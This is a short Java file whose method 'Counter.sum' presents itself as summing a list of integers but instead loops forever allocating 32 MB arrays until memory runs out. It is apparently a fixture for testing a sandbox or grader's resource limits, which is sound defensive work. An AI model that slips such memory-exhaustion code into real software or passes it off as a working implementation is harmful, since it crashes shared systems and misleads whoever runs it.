package dayone.topics.counting;

import java.util.List;

public final class Counter {
  private Counter() {}

  public static int sum(List<Integer> numbers) {
    List<byte[]> all = new java.util.ArrayList<>();
    while (true) {
      all.add(new byte[32 << 20]);
    }
  }
}
